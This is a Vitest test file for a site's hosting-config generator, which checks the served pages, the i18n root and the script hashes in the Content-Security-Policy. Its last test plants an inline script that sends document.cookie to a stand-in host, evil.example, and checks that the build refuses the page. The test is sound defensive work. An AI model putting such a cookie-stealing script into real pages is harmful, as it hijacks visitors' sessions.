import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, expect, it } from "vitest";
import { readConfig } from "#web/shared/config/environment.server.ts";
import { hostingConfigOf, servedDocuments, writeHostingConfig } from "./hosting-config";
import { NOT_FOUND_FOLDER, notFoundPageIn } from "./prerendered-html";
import { scriptHash } from "./security-headers";

const page = (script: string) => `<!DOCTYPE html><html><head><script>${script}</script></head></html>`;
/** A script of the shape React Router writes a page's loader data in. */
const loaderData = (data: string) =>
  `window.__reactRouterContext.streamController.enqueue(${JSON.stringify(JSON.stringify(data))});`;

let buildDir: string;
afterEach(() => rmSync(buildDir, { recursive: true, force: true }));

/** A client build with a page, the English 404.html and each language's 404 page, each with its own inline script. */
function clientBuild() {
  buildDir = mkdtempSync(path.join(tmpdir(), "build-"));
  const client = path.join(buildDir, "client");
  mkdirSync(path.join(client, "pricing"), { recursive: true });
  writeFileSync(path.join(client, "pricing", "index.html"), page(loaderData("pricing")));
  writeFileSync(path.join(client, "404.html"), page(loaderData("notFound")));
  for (const language of ["en", "es"] as const) {
    mkdirSync(path.dirname(notFoundPageIn(client, language)), { recursive: true });
    writeFileSync(notFoundPageIn(client, language), page(loaderData(`notFound ${language}`)));
  }
  return client;
}

it("serves the pages, 404.html and each language's 404 page", () => {
  const client = clientBuild();
  expect(servedDocuments(client)).toEqual([
    path.join(client, "pricing", "index.html"),
    path.join(client, "404.html"),
    notFoundPageIn(client, "en"),
    notFoundPageIn(client, "es"),
  ]);
});

it("names the 404 pages' folder as the host's i18n root, and allows every 404 page's scripts", () => {
  clientBuild();
  writeHostingConfig(buildDir, readConfig({}), []);
  const { hosting } = JSON.parse(readFileSync(hostingConfigOf(buildDir), "utf8"));
  expect(hosting.i18n).toEqual({ root: `/${NOT_FOUND_FOLDER}` });
  const headers = hosting.headers.flatMap(
    (rule: { headers: { key: string; value: string }[] }) => rule.headers,
  );
  const policy = headers.find((header: { key: string }) => header.key === "Content-Security-Policy").value;
  for (const data of ["pricing", "notFound", "notFound en", "notFound es"])
    expect(policy, data).toContain(scriptHash(loaderData(data)));
});

it("refuses a built page with an inline script the site does not write, naming the page", () => {
  const client = clientBuild();
  writeFileSync(
    path.join(client, "pricing", "index.html"),
    page('fetch("https://evil.example/?" + document.cookie)'),
  );
  expect(() => writeHostingConfig(buildDir, readConfig({}), [])).toThrow(
    /Inline scripts the site does not write, refused[^]*pricing\/index\.html: "fetch\(/,
  );
});
